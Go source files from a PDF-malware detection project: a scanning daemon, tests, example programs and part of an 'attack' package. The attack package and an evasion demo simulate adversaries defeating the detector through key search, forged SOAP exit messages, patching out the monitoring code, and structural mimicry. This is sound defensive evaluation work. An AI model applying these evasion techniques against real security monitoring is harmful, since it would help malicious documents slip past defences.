	jw.Append(journal.Event{T: journal.TypeDocOpen, DocID: input, Cause: fmt.Sprintf("%d bytes", len(raw))})

	feats, chains, doc, err := instrument.Analyze(raw)
	if err != nil {
		return "", fmt.Errorf("analyze: %w", err)
	}
	merged, embedded := instrument.AnalyzeDeepDoc(doc, feats)
	fmt.Fprintf(&sb, "file:              %s (%d bytes)\n", input, len(raw))
	fmt.Fprintf(&sb, "static features:   %s\n", feats)
	if len(embedded) > 0 {
		fmt.Fprintf(&sb, "embedded PDFs:     %d (merged features: %s)\n", len(embedded), merged)
	}
	fmt.Fprintf(&sb, "feature vector:    F1..F5 = %v (merged %v)\n", feats.Vector(), merged.Vector())
	fmt.Fprintf(&sb, "javascript chains: %d (triggered shown below)\n", len(chains.Chains))
	for _, c := range chains.Chains {
		if !c.Triggered {
			continue
		}
		preview := c.Source
		if len(preview) > 60 {
			preview = preview[:60] + "..."
		}
		fmt.Fprintf(&sb, "  holder obj %-4d trigger=%-18s %d chars: %q\n", c.Holder, c.Trigger, len(c.Source), preview)
	}
	if analyzeOnly {
		if useTriage {
			// Bytes-plus-analysis triage: the same decision the pipeline
			// tier makes, minus the embedded-document recursion the full
			// front-end performs.
			d := triage.Evaluate(triage.Config{}, raw, &instrument.Result{
				Features:    feats,
				Chains:      chains,
				Doc:         doc,
				ObjectCount: chains.TotalObjects,
			})
			writeTriageReport(&sb, d)
		}
		return sb.String(), nil
	}
	if !merged.HasJavaScript {
		sb.WriteString("no javascript anywhere: nothing to instrument\n")
		return sb.String(), nil
	}

	res, cached, err := instrumentCached(input, raw, ins, fc)
	if err != nil {
		return sb.String(), fmt.Errorf("instrument: %w", err)
	}
	if useTriage {
		writeTriageReport(&sb, triage.Evaluate(triage.Config{}, raw, res))
	}

	out := outPath
	if out == "" {
		out = input + ".instrumented.pdf"
	}
	if err := os.WriteFile(out, res.Output, 0o600); err != nil {
		return sb.String(), err
	}
	spec := specPath
	if spec == "" {
		spec = input + ".spec.json"
	}
	specJSON, err := json.MarshalIndent(res.Spec, "", "  ")
	if err != nil {
		return sb.String(), err
	}
	if err := os.WriteFile(spec, specJSON, 0o600); err != nil {
		return sb.String(), err
	}

	fmt.Fprintf(&sb, "instrumented:      %s (%d scripts, %d staged rewrites, %d embedded docs)\n", out, res.ScriptsInstrumented, res.StagedRewrites, len(res.Embedded))
	if cached {
		fmt.Fprintf(&sb, "cache:             hit — identical to %s (hash %s)\n", res.DocID, res.ContentHash[:12])
	}
	if res.Key.InstrKey != "" {
		fmt.Fprintf(&sb, "protection key:    %s\n", res.Key)
	}
	for _, emb := range res.Embedded {
		fmt.Fprintf(&sb, "embedded key:      %s -> %s\n", emb.DocID, emb.Key)
	}
	fmt.Fprintf(&sb, "spec:              %s\n", spec)
	fmt.Fprintf(&sb, "timing:            parse %.4fs, features %.4fs, instrument %.4fs\n",
		res.Timing.ParseDecompress.Seconds(), res.Timing.FeatureExtraction.Seconds(), res.Timing.Instrumentation.Seconds())
	return sb.String(), nil
}

// writeTriageReport renders the static triage decision: the route plus
// whichever evidence produced it.
func writeTriageReport(sb *strings.Builder, d triage.Decision) {
	fmt.Fprintf(sb, "triage route:      %s (score %d, %d scripts analyzed)\n", d.Route, d.Score, d.Scripts)
	if len(d.Signals) > 0 {
		fmt.Fprintf(sb, "triage signals:    %s\n", strings.Join(d.Signals, ", "))
	}
	if len(d.Uncertain) > 0 {
		fmt.Fprintf(sb, "triage fail-safe:  %s\n", strings.Join(d.Uncertain, ", "))
	}
}

// instrumentCached routes instrumentation through the cache when enabled.
// The content hash is computed once and feeds the cache key, the registry
// record, and the report. cached reports whether this call skipped the
// front-end (completed entry or shared singleflight flight).
func instrumentCached(input string, raw []byte, ins *instrument.Instrumenter, fc *cache.Cache) (*instrument.Result, bool, error) {
	hash := instrument.ContentHash(raw)
	if fc == nil {
		res, err := ins.InstrumentBytesWithHash(input, raw, hash)
		return res, false, err
	}
	res, err, hit := fc.Do(hash, func() (*instrument.Result, error) {
		return ins.InstrumentBytesWithHash(input, raw, hash)
	})
	return res, hit, err
}
