// Command pdfshield-serve is the HTTP ingestion daemon: it accepts PDF
// submissions over POST /v1/scan (body = the raw PDF bytes) and answers the
// pipeline's verdict as JSON, with the document's trace and journal
// correlation IDs. The daemon fronts the pipeline with admission control:
// a bounded queue whose overflow answers 429 + Retry-After, per-tenant
// token-bucket rate limits keyed on the X-Tenant header, and — in a
// multi-backend deployment (-peers/-self) — consistent-hash routing on
// the document content hash so each peer's front-end cache holds its
// shard of the content space.
//
// SIGINT/SIGTERM drain the daemon: the listener stops accepting,
// in-flight documents finish under -drain-timeout, and the forensic
// journal is flushed before exit. /v1/healthz answers 503 while draining
// so load balancers rotate the node out; /v1/metrics and /debug/vars
// serve the live registry on the same listener. The pre-versioning paths
// (/scan, /healthz, /metrics) answer 308 redirects with a Deprecation
// header for one release.
//
// -depth selects the scan tier: "static" (triage only, no sandbox),
// "standard" (the default dynamic open), "deep" (forced execution on
// every open) or "auto" (triage plus forced execution for uncertain
// documents). -triage is a deprecated alias for the pre-redesign
// triage-plus-standard configuration.
//
// Usage:
//
//	pdfshield-serve [-addr :8947] [-workers N] [-queue N]
//	                [-max-doc-bytes N] [-drain-timeout d]
//	                [-tenant-rate R] [-tenant-burst N]
//	                [-peers a:1,b:2] [-self a:1]
//	                [-cache] [-cache-entries N] [-cache-bytes N] [-cache-ttl d]
//	                [-depth static|standard|deep|auto] [-triage]
//	                [-seed N] [-journal events.jsonl] [-log-level info]
//	                [-pprof]
//
// The daemon also serves the live debug surface (/v1/debug/traces,
// /v1/debug/slow, /v1/debug/slo, /v1/debug/stalls), and with -pprof the
// net/http/pprof handlers at /debug/pprof. SIGQUIT prints a diagnostic
// dump (SLO burn rates, slowest retained traces, stall reports, a full
// goroutine dump) to stderr without interrupting service. One-shot
// remote diagnosis of a running node:
//
//	pdfshield-serve -doctor host:port
//
// Load generator (capacity measurement against a running daemon):
//
//	pdfshield-serve -load -target http://host:port [-load-docs N]
//	                [-load-unique N] [-load-concurrency N] [-load-tenant T]
//	                [-load-journal events.jsonl] [-json BENCH.json]
//
// -load replays a duplicate-heavy corpus (or, with -load-journal, the
// doc-open stream of a recorded journal) against -target and emits a
// schema pdfshield-bench/3 record: docs/sec, p50/p99 end-to-end latency,
// and the rejection rate under backpressure.
package main

import (
	"context"
	"flag"
	"fmt"
	"log/slog"
	"os"
	"os/signal"
	"runtime"
	"strings"
	"syscall"

	"pdfshield/internal/cache"
	"pdfshield/internal/cli"
	"pdfshield/internal/obs"
	"pdfshield/internal/pipeline"
	"pdfshield/internal/serve"
	"pdfshield/internal/triage"
)

func main() {
	if err := run(); err != nil {
		slog.Error("fatal", "err", err)
		os.Exit(1)
	}
}

func run() error {
	addr := flag.String("addr", ":8947", "listen address (\":0\" picks a free port)")
	workers := flag.Int("workers", runtime.NumCPU(), "concurrent scan lanes (each owns one recycled reader session)")
	queueDepth := flag.Int("queue", serve.DefaultQueueDepth, "admission queue depth; overflow answers 429 + Retry-After")
	maxDocBytes := flag.Int64("max-doc-bytes", serve.DefaultMaxDocBytes, "largest accepted document body in bytes")
	drainTimeout := flag.Duration("drain-timeout", serve.DefaultDrainTimeout, "how long shutdown waits for in-flight documents")
	tenantRate := flag.Float64("tenant-rate", 0, "per-tenant admitted docs/second (0 = unlimited)")
	tenantBurst := flag.Int("tenant-burst", 0, "per-tenant burst ceiling (0 = max(rate,1))")
	peers := flag.String("peers", "", "comma-separated backend list for consistent-hash routing (empty = single node)")
	self := flag.String("self", "", "this node's entry in -peers")
	useCache := flag.Bool("cache", true, "content-addressed front-end cache (byte-identical documents share instrumentation)")
	cacheEntries := flag.Int("cache-entries", 0, "cache entry cap (0 = default, negative = unlimited)")
	cacheBytes := flag.Int64("cache-bytes", 0, "cache byte cap (0 = default, negative = unlimited)")
	cacheTTL := flag.Duration("cache-ttl", 0, "cache entry time-to-live (0 = never expires)")
	seed := flag.Int64("seed", 0, "instrumentation randomization seed (0 = time-based)")
	pprofOn := flag.Bool("pprof", false, "mount net/http/pprof at /debug/pprof (opt-in: profiles expose goroutine stacks and heap contents)")
	doctor := flag.String("doctor", "", "one-shot: fetch and pretty-print a running daemon's diagnostics (health, SLO burn rates, slow traces, stalls) from this address, then exit")
	depthFlag := flag.String("depth", "", "scan depth: static|standard|deep|auto (empty = standard; auto adds forced-execution deep scans for triage-uncertain documents)")
	useTriage := flag.Bool("triage", false, "deprecated: use -depth static|auto; static triage tier routing confident documents around the sandbox")

	load := flag.Bool("load", false, "run the load generator against -target instead of serving")
	target := flag.String("target", "", "load: base URL of the running daemon (http://host:port)")
	loadDocs := flag.Int("load-docs", 200, "load: total documents to submit")
	loadUnique := flag.Int("load-unique", 5, "load: unique documents (the rest are byte-identical duplicates)")
	loadConcurrency := flag.Int("load-concurrency", 16, "load: parallel submitters")
	loadTenant := flag.String("load-tenant", "", "load: X-Tenant stamped on every submission")
	loadJournal := flag.String("load-journal", "", "load: replay this journal's doc-open stream as the submission order")
	jsonPath := flag.String("json", "", "load: write the pdfshield-bench/3 record to this file")

	logOpts := cli.RegisterLogFlags(flag.CommandLine)
	jOpts := cli.RegisterJournalFlags(flag.CommandLine, "pdfshield-serve")
	flag.Parse()

	logger, err := logOpts.SetupLogger("pdfshield-serve")
	if err != nil {
		return err
	}

	if *doctor != "" {
		return serve.RunDoctor(*doctor, os.Stdout)
	}

	if *load {
		return runLoad(serve.LoadConfig{
			Target:      *target,
			Docs:        *loadDocs,
			Unique:      *loadUnique,
			Concurrency: *loadConcurrency,
			Seed:        *seed,
			Tenant:      *loadTenant,
			JournalPath: *loadJournal,
		}, *jsonPath)
	}

	jw, err := jOpts.Open(obs.Default)
	if err != nil {
		return err
	}
	defer func() {
		if jw == nil {
			return
		}
		if err := jw.Close(); err != nil {
			logger.Warn("journal close failed", "err", err)
		}
		if err := jw.Err(); err != nil {
			logger.Warn("journal is partial", "err", err, "dropped", jw.Dropped())
		}
	}()

	cfg := serve.Config{
		Pipeline: pipeline.Options{
			Seed:    *seed,
			Obs:     obs.Default,
			Journal: jw,
		},
		Workers:      *workers,
		QueueDepth:   *queueDepth,
		MaxDocBytes:  *maxDocBytes,
		DrainTimeout: *drainTimeout,
		TenantRate:   *tenantRate,
		TenantBurst:  *tenantBurst,
		Self:         *self,
		Pprof:        *pprofOn,
	}
	if *peers != "" {
		for _, p := range strings.Split(*peers, ",") {
			if p = strings.TrimSpace(p); p != "" {
				cfg.Peers = append(cfg.Peers, p)
			}
		}
	}
	if *useCache {
		cfg.Pipeline.Cache = &cache.Config{
			MaxEntries: *cacheEntries,
			MaxBytes:   *cacheBytes,
			TTL:        *cacheTTL,
		}
	}
	depth, err := pipeline.ParseDepth(*depthFlag)
	if err != nil {
		return err
	}
	cfg.Pipeline.Depth = depth
	if *useTriage && depth == "" {
		// Deprecated alias for one release: -triage without -depth keeps
		// its pre-redesign meaning (triage in front of a standard scan).
		cfg.Pipeline.Triage = &triage.Config{}
	}

	srv, err := serve.New(cfg)
	if err != nil {
		return err
	}
	if err := srv.Start(*addr); err != nil {
		return err
	}
	logger.Info("listening", "addr", srv.Addr(), "workers", cfg.Workers, "queue", cfg.QueueDepth, "peers", len(cfg.Peers))

	// Drain on SIGINT/SIGTERM: stop accepting, finish in-flight documents
	// under the drain deadline, flush the journal, then exit. SIGQUIT
	// prints a diagnostic dump (SLO status, slowest traces, stall reports,
	// goroutines) to stderr and keeps serving — the kill -QUIT an operator
	// sends a wedged-looking node before deciding whether to restart it.
	sig := make(chan os.Signal, 1)
	signal.Notify(sig, syscall.SIGINT, syscall.SIGTERM, syscall.SIGQUIT)
	var got os.Signal
	for got = range sig {
		if got == syscall.SIGQUIT {
			srv.System().Diagnostics().WriteDump(os.Stderr)
			continue
		}
		break
	}
	signal.Stop(sig)
	logger.Info("draining", "signal", got.String(), "deadline", drainTimeout.String())

	ctx, cancel := context.WithTimeout(context.Background(), *drainTimeout)
	defer cancel()
	if err := srv.Shutdown(ctx); err != nil {
		return fmt.Errorf("drain: %w", err)
	}
	logger.Info("drained")
	return nil
}

// runLoad drives one load pass and writes/prints its record.
func runLoad(cfg serve.LoadConfig, jsonPath string) error {
	rec, err := serve.RunLoad(cfg, os.Stderr)
	if err != nil {
		return err
	}
	if jsonPath != "" {
		if err := rec.WriteRecord(jsonPath); err != nil {
			return err
		}
		fmt.Fprintf(os.Stderr, "load: record written to %s\n", jsonPath)
		return nil
	}
	// No -json: print the record to stdout so the pass is still capturable.
	s := rec.Serve
	fmt.Printf("target:            %s\n", s.Target)
	fmt.Printf("submitted:         %d docs (%d unique), concurrency %d\n", s.Docs, rec.Corpus.Unique, s.Concurrency)
	fmt.Printf("completed:         %d (%d malicious, %d no-js, %d failed)\n", s.Completed, s.Malicious, s.NoJS, s.Failed)
	fmt.Printf("backpressure:      %d x 429 (%.1f%% rejection), %d retries\n", s.Rejected429, s.RejectionRate*100, s.Retries)
	fmt.Printf("throughput:        %.1f docs/sec over %.2fs\n", s.DocsPerSec, s.Seconds)
	fmt.Printf("latency:           p50 %.2fms, p90 %.2fms, p99 %.2fms\n", s.P50Ms, s.P90Ms, s.P99Ms)
	return nil
}
