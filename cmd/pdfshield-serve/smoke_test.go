package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sync"
	"syscall"
	"testing"
	"time"

	"pdfshield/internal/corpus"
	"pdfshield/internal/journal"
)

var addrRE = regexp.MustCompile(`addr=([0-9.]+:[0-9]+)`)

// TestServeSmoke is the end-to-end daemon smoke test (`make serve-smoke`):
// build the real binary, start it on an ephemeral port with a journal,
// POST a corpus document, assert the verdict JSON, then SIGTERM and
// require a clean drain — exit 0, "drained" logged, and the journaled
// doc-open flushed to disk.
func TestServeSmoke(t *testing.T) {
	if testing.Short() {
		t.Skip("builds and runs the daemon binary")
	}
	dir := t.TempDir()
	bin := filepath.Join(dir, "pdfshield-serve")
	build := exec.Command("go", "build", "-o", bin, "pdfshield/cmd/pdfshield-serve")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("building daemon: %v\n%s", err, out)
	}

	jpath := filepath.Join(dir, "events.jsonl")
	cmd := exec.Command(bin,
		"-addr", "127.0.0.1:0",
		"-workers", "2",
		"-seed", "4242",
		"-journal", jpath,
		"-drain-timeout", "20s",
	)
	stderr, err := cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatalf("starting daemon: %v", err)
	}
	defer func() { _ = cmd.Process.Kill() }()

	// Collect stderr while watching for the bound address in the
	// "listening" log line.
	var (
		mu     sync.Mutex
		logbuf bytes.Buffer
	)
	addrCh := make(chan string, 1)
	scanDone := make(chan struct{})
	go func() {
		defer close(scanDone)
		sc := bufio.NewScanner(stderr)
		for sc.Scan() {
			line := sc.Text()
			mu.Lock()
			logbuf.WriteString(line + "\n")
			mu.Unlock()
			if m := addrRE.FindStringSubmatch(line); m != nil {
				select {
				case addrCh <- m[1]:
				default:
				}
			}
		}
	}()
	var addr string
	select {
	case addr = <-addrCh:
	case <-time.After(30 * time.Second):
		t.Fatalf("daemon never logged its listen address; log so far:\n%s", readLog(&mu, &logbuf))
	}

	// Scan a benign corpus document.
	g := corpus.NewGenerator(4242)
	doc := g.BenignFormJS()
	req, err := http.NewRequest(http.MethodPost, "http://"+addr+"/v1/scan", bytes.NewReader(doc.Raw))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("X-Doc-Id", "smoke-doc")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("POST /scan: %v", err)
	}
	body, _ := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("scan status %d, body %s", resp.StatusCode, body)
	}
	var verdict struct {
		DocID     string `json:"doc_id"`
		Malicious bool   `json:"malicious"`
		Session   string `json:"journal_session"`
	}
	if err := json.Unmarshal(body, &verdict); err != nil {
		t.Fatalf("verdict JSON: %v (%s)", err, body)
	}
	if verdict.DocID != "smoke-doc" || verdict.Malicious {
		t.Fatalf("verdict %s, want benign smoke-doc", body)
	}
	if verdict.Session == "" {
		t.Error("verdict missing journal_session correlation key")
	}

	hr, err := http.Get("http://" + addr + "/v1/healthz")
	if err != nil {
		t.Fatalf("healthz: %v", err)
	}
	_, _ = io.Copy(io.Discard, hr.Body)
	_ = hr.Body.Close()
	if hr.StatusCode != http.StatusOK {
		t.Errorf("healthz status %d, want 200", hr.StatusCode)
	}

	// Clean drain on SIGTERM. All stderr reads must complete before
	// cmd.Wait (Wait closes the pipe), so wait for the scanner's EOF —
	// which also guarantees the final "drained" line is in logbuf.
	if err := cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatalf("SIGTERM: %v", err)
	}
	select {
	case <-scanDone:
	case <-time.After(30 * time.Second):
		t.Fatalf("daemon stderr never reached EOF after SIGTERM\n%s", readLog(&mu, &logbuf))
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("daemon exited uncleanly after SIGTERM: %v\n%s", err, readLog(&mu, &logbuf))
		}
	case <-time.After(30 * time.Second):
		t.Fatalf("daemon did not drain within 30s\n%s", readLog(&mu, &logbuf))
	}
	if log := readLog(&mu, &logbuf); !bytes.Contains([]byte(log), []byte("drained")) {
		t.Errorf("drain completion never logged:\n%s", log)
	}

	// The journal must hold the flushed doc-open/verdict pair.
	events, err := journal.ReadFile(jpath)
	if err != nil {
		t.Fatalf("reading journal: %v", err)
	}
	var open, verd bool
	for _, e := range events {
		if e.DocID != "smoke-doc" {
			continue
		}
		switch e.T {
		case journal.TypeDocOpen:
			open = true
		case journal.TypeVerdict:
			verd = true
		}
	}
	if !open || !verd {
		t.Errorf("journal missing smoke-doc events (open=%v verdict=%v, %d total)", open, verd, len(events))
	}
	_ = os.Remove(bin)
}

func readLog(mu *sync.Mutex, buf *bytes.Buffer) string {
	mu.Lock()
	defer mu.Unlock()
	return buf.String()
}
