// Corpuseval: a miniature Table VIII. Generates a labelled corpus, runs
// every sample through the full pipeline, and prints the detection
// confusion with per-family breakdown — the quickest way to see where the
// detector's strengths (and the paper's documented false negatives) come
// from.
//
// Run with: go run ./examples/corpuseval [-n 60]
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"sort"

	"pdfshield"
	"pdfshield/internal/corpus"
)

func main() {
	n := flag.Int("n", 60, "malicious samples (benign count matches)")
	seed := flag.Int64("seed", 2014, "corpus seed")
	flag.Parse()

	g := corpus.NewGenerator(*seed)

	sysBenign, err := pdfshield.New(pdfshield.Options{ViewerVersion: 9.0, Seed: *seed})
	if err != nil {
		log.Fatal(err)
	}
	defer func() { _ = sysBenign.Close() }()
	sysMal, err := pdfshield.New(pdfshield.Options{ViewerVersion: 8.0, Seed: *seed + 1})
	if err != nil {
		log.Fatal(err)
	}
	defer func() { _ = sysMal.Close() }()

	fp, tn := 0, 0
	for _, s := range g.BenignWithJS(*n) {
		v, err := sysBenign.ProcessDocumentContext(context.Background(), s.ID, s.Raw)
		if err != nil {
			log.Fatal(err)
		}
		if v.Malicious {
			fp++
			fmt.Printf("FALSE POSITIVE: %s (%s): %v\n", s.ID, s.Family, v.Features)
		} else {
			tn++
		}
	}

	type famStat struct{ detected, missed, noise int }
	stats := map[string]*famStat{}
	tp, fn, noise := 0, 0, 0
	for _, s := range g.MaliciousBatch(*n) {
		v, err := sysMal.ProcessDocumentContext(context.Background(), s.ID, s.Raw)
		if err != nil {
			log.Fatal(err)
		}
		st := stats[s.Family]
		if st == nil {
			st = &famStat{}
			stats[s.Family] = st
		}
		switch {
		case v.Malicious:
			tp++
			st.detected++
		case s.Outcome == corpus.OutcomeNoop:
			noise++
			st.noise++
		default:
			fn++
			st.missed++
		}
	}

	fmt.Printf("\nbenign:    %d clean, %d false positives (paper: 0 FP)\n", tn, fp)
	working := tp + fn
	rate := 0.0
	if working > 0 {
		rate = float64(tp) / float64(working) * 100
	}
	fmt.Printf("malicious: %d detected, %d missed, %d did nothing — %.1f%% on working samples (paper: 97.3%%)\n",
		tp, fn, noise, rate)

	fmt.Println("\nper-family breakdown:")
	var fams []string
	for f := range stats {
		fams = append(fams, f)
	}
	sort.Strings(fams)
	for _, f := range fams {
		st := stats[f]
		fmt.Printf("  %-20s detected=%-3d missed=%-3d noise=%-3d\n", f, st.detected, st.missed, st.noise)
	}
	fmt.Println("\nmisses concentrate in mal-crasher-clean: the reader crashes before")
	fmt.Println("the infection completes and no static feature contributes — the same")
	fmt.Println("25-sample false-negative population the paper reports.")
}
