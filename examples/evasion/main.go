// Evasion: the §IV security analysis as a runnable demo. A sophisticated
// adversary tries, in order: (1) signature-based key search against the
// context monitoring code, (2) a forged SOAP exit message, (3) patching the
// monitoring code out of a script, and (4) structural mimicry that defeats
// the static baselines. Each attempt runs for real and its outcome is
// printed.
//
// Run with: go run ./examples/evasion
package main

import (
	"context"
	"fmt"
	"log"

	"pdfshield"
	"pdfshield/internal/attack"
	"pdfshield/internal/baseline"
	"pdfshield/internal/corpus"
	"pdfshield/internal/pdf"
)

func main() {
	sys, err := pdfshield.New(pdfshield.Options{ViewerVersion: 8.0, Seed: 3})
	if err != nil {
		log.Fatal(err)
	}
	defer func() { _ = sys.Close() }()

	// ---- 1. key search -------------------------------------------------
	fmt.Println("[1] signature-based key search against monitoring code")
	doc := singleScriptDoc(`var x = 1;`)
	inst, err := sys.Instrument("victim", doc)
	if err != nil {
		log.Fatal(err)
	}
	monitored := firstScript(inst.Output)
	candidates := attack.SignatureKeySearch(monitored)
	fmt.Printf("    memory scan finds %d key-shaped candidates (decoys included)\n", len(candidates))
	fmt.Printf("    fixed-name search finds %d hits (randomized identifiers)\n", len(attack.FixedNameKeySearch(monitored)))

	// ---- 2. forged exit message ----------------------------------------
	fmt.Println("[2] forged exit message with a guessed key")
	sys2, err := pdfshield.New(pdfshield.Options{ViewerVersion: 8.0, Seed: 4})
	if err != nil {
		log.Fatal(err)
	}
	defer func() { _ = sys2.Close() }()
	// The attacker picks one of the candidates — odds are it is a decoy.
	forged := attack.ForgedExitScript("http://127.0.0.1:1/ctx", candidates[len(candidates)-1], "var y=2;")
	v, err := sys2.ProcessDocumentContext(context.Background(), "forger", singleScriptDoc(forged))
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("    verdict: malicious=%v reason=%q (zero tolerance)\n", v.Malicious, v.Reason)

	// ---- 3. runtime patching -------------------------------------------
	fmt.Println("[3] patching monitoring code out of the script")
	patched := attack.PatchOutMonitoring(monitored)
	fmt.Printf("    patched script still mentions SOAP: %v\n", containsSOAP(patched))
	fmt.Println("    decryption is keyed on the enter acknowledgement -> payload cannot run unmonitored")

	// ---- 4. structural mimicry ------------------------------------------
	fmt.Println("[4] structural mimicry against static detectors [8]")
	mimic := attack.MimicrySample(99)

	g := corpus.NewGenerator(55)
	var trainB, trainM [][]byte
	for _, s := range g.BenignWithJS(40) {
		trainB = append(trainB, s.Raw)
	}
	for _, s := range g.MaliciousBatch(40) {
		trainM = append(trainM, s.Raw)
	}
	for _, name := range []string{"structpath", "pdfrate"} {
		det, err := baseline.ByName(name, 9)
		if err != nil {
			log.Fatal(err)
		}
		if err := det.Train(trainB, trainM); err != nil {
			log.Fatal(err)
		}
		caught, err := det.Classify(mimic.Raw)
		if err != nil {
			log.Fatal(err)
		}
		fmt.Printf("    %-10s classifies the mimic as malicious: %v\n", name, caught)
	}
	v, err = sys.ProcessDocumentContext(context.Background(), mimic.ID, mimic.Raw)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("    pdfshield  classifies the mimic as malicious: %v (malscore %d)\n", v.Malicious, v.Malscore)
}

func singleScriptDoc(script string) []byte {
	d := pdf.NewDocument()
	jsRef := d.Add(pdf.String{Value: []byte(script)})
	action := d.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": jsRef})
	catalog := d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "OpenAction": action})
	d.Trailer["Root"] = catalog
	raw, err := pdf.Write(d, pdf.WriteOptions{})
	if err != nil {
		log.Fatal(err)
	}
	return raw
}

func firstScript(raw []byte) string {
	doc, err := pdf.Parse(raw, pdf.ParseOptions{})
	if err != nil {
		log.Fatal(err)
	}
	chains, err := pdf.ReconstructChains(doc)
	if err != nil {
		log.Fatal(err)
	}
	for _, c := range chains.Chains {
		if c.Triggered {
			return c.Source
		}
	}
	log.Fatal("no script found")
	return ""
}

func containsSOAP(s string) bool {
	return len(s) > 0 && (stringIndex(s, "SOAP.request") >= 0)
}

func stringIndex(s, sub string) int {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return i
		}
	}
	return -1
}
