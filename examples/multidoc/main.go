// Multidoc: the paper's motivating scenario. Users open many PDFs at once
// inside one single-threaded reader process; context-free monitoring cannot
// tell a heap spray from ordinary rendering memory, and cannot say WHICH
// open document attacked. Context-aware monitoring does both.
//
// The example opens two benign documents and one malicious one in a single
// reader session, then shows (a) the detector attributing the infection to
// exactly the right document and (b) the context-free memory curve that
// makes threshold-based detection hopeless (Figure 8's point).
//
// Run with: go run ./examples/multidoc
package main

import (
	"fmt"
	"log"

	"pdfshield"
	"pdfshield/internal/corpus"
	"pdfshield/internal/reader"
)

func main() {
	sys, err := pdfshield.New(pdfshield.Options{ViewerVersion: 8.0, Seed: 11})
	if err != nil {
		log.Fatal(err)
	}
	defer func() { _ = sys.Close() }()

	g := corpus.NewGenerator(23)
	report := g.BenignNavJS()
	invoice := g.BenignFormJS()
	exploit, _ := g.MaliciousFamily("mal-geticon")

	fmt.Println("opening three documents in ONE reader process:")
	sess, err := sys.NewSession()
	if err != nil {
		log.Fatal(err)
	}
	for _, s := range []corpus.Sample{report, exploit, invoice} {
		if err := sess.Open(s.ID, s.Raw); err != nil {
			log.Fatal(err)
		}
		fmt.Printf("  opened %-28s (%s)\n", s.ID, s.Family)
	}
	sess.Close()

	fmt.Println("\nattribution:")
	for _, s := range []corpus.Sample{report, exploit, invoice} {
		fmt.Printf("  %-28s malicious=%v\n", s.ID, sys.IsMalicious(s.ID))
	}
	for _, a := range sys.Alerts() {
		fmt.Printf("\nalert: doc=%s malscore=%d features=%v\n", a.DocID, a.Malscore, a.Features.Positive())
		for _, op := range a.Ops {
			fmt.Printf("  op: %s\n", op)
		}
	}

	// Context-free contrast: an unmonitored reader opening many benign
	// copies shows memory growth that dwarfs a 100 MB spray threshold.
	fmt.Println("\ncontext-free memory of an unprotected reader opening 12 benign copies:")
	proc := reader.NewProcess(reader.Config{ViewerVersion: 9.0})
	defer proc.Close()
	big := g.Sized(8<<20, false)
	for i := 1; i <= 12; i++ {
		res, err := proc.Open(fmt.Sprintf("copy-%d", i), big.Raw, reader.OpenOptions{})
		if err != nil {
			log.Fatal(err)
		}
		fmt.Printf("  copies=%2d  process memory = %7.1f MB\n", i, res.MemAfterMB)
	}
	fmt.Println("\na fixed context-free threshold would flag these benign copies long")
	fmt.Println("before flagging a 150 MB spray — JS-context measurement is the fix.")
}
