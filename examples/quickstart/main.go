// Quickstart: protect a machine against a malicious PDF end to end.
//
// The example generates one benign and one malicious document from the
// synthetic corpus, then runs each through the full pipeline: static
// analysis and instrumentation (Phase I), followed by opening inside a
// hooked reader process wired to the live runtime detector (Phase II).
//
// Run with: go run ./examples/quickstart
package main

import (
	"context"
	"fmt"
	"log"

	"pdfshield"
	"pdfshield/internal/corpus"
)

func main() {
	sys, err := pdfshield.New(pdfshield.Options{ViewerVersion: 8.0, Seed: 42})
	if err != nil {
		log.Fatal(err)
	}
	defer func() { _ = sys.Close() }()

	g := corpus.NewGenerator(7)
	benign := g.BenignFormJS()
	malicious, _ := g.MaliciousFamily("mal-printf")

	for _, sample := range []corpus.Sample{benign, malicious} {
		fmt.Printf("--- processing %s (%s, %d bytes)\n", sample.ID, sample.Family, len(sample.Raw))

		static, err := pdfshield.Analyze(sample.Raw)
		if err != nil {
			log.Fatal(err)
		}
		fmt.Printf("    static features: %s\n", static)

		verdict, err := sys.ProcessDocumentContext(context.Background(), sample.ID, sample.Raw)
		if err != nil {
			log.Fatal(err)
		}
		switch {
		case verdict.NoJavaScript:
			fmt.Println("    verdict: out of scope (no Javascript)")
		case verdict.Malicious:
			fmt.Printf("    verdict: MALICIOUS (malscore %d, reason %s)\n", verdict.Malscore, verdict.Reason)
			fmt.Printf("    positive features: %v\n", verdict.Features)
			fmt.Printf("    confinement isolated: %v\n", verdict.IsolatedFiles)
		default:
			fmt.Println("    verdict: benign")
		}
	}

	fmt.Printf("\ntotal quarantined artifacts: %d\n", sys.Stats().Quarantined)
	fmt.Println(pdfshield.Version)
}
