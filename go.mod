module pdfshield

go 1.22
