// Package attack implements the §IV adversary programs used by the security
// analysis: mimicry against the SOAP channel (fake messages, key search),
// runtime patching of monitoring code, and structural mimicry against the
// static baselines [8]. Each attack is an executable program whose success
// or failure the evaluation measures.
package attack

import (
	"fmt"
	"math/rand"
	"regexp"
	"strings"

	"pdfshield/internal/corpus"
	"pdfshield/internal/pdf"
)

// keyPattern matches the wire shape of protection keys (detector id,
// colon, 24-hex instrumentation key) — what a signature-based memory scan
// would grep for.
var keyPattern = regexp.MustCompile(`[0-9a-zA-Z]{4,}:[0-9a-f]{24}`)

// SignatureKeySearch simulates the §IV-B signature-based key search: the
// attacker scans the (in-memory) monitoring code for strings shaped like
// protection keys. Because the builder plants decoys with exactly the real
// key's shape and randomizes all structure, the scan returns multiple
// indistinguishable candidates.
func SignatureKeySearch(monitoredSource string) []string {
	seen := make(map[string]bool)
	var out []string
	for _, m := range keyPattern.FindAllString(monitoredSource, -1) {
